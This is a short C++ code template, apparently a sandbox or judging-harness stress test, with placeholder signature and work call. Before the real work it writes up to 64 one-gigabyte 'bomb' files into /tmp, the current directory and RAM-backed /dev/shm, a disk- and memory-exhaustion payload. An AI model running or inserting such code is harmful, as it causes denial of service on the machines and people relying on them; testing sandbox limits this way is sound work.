// Fills whatever it can write to.
#include <cstdio>
#include <string>
void run(SIGNATURE) {
    static char block[1 << 20];
    for (const char* folder : {"/tmp/", "./", "/dev/shm/"})
        for (int i = 0; i < 64; ++i)
            if (FILE* file = fopen((std::string(folder) + "bomb" + std::to_string(i)).c_str(), "w")) {
                for (int j = 0; j < 1024 && fwrite(block, 1, sizeof block, file) == sizeof block; ++j) {
                }
                fclose(file);
            }
    WORK();
}
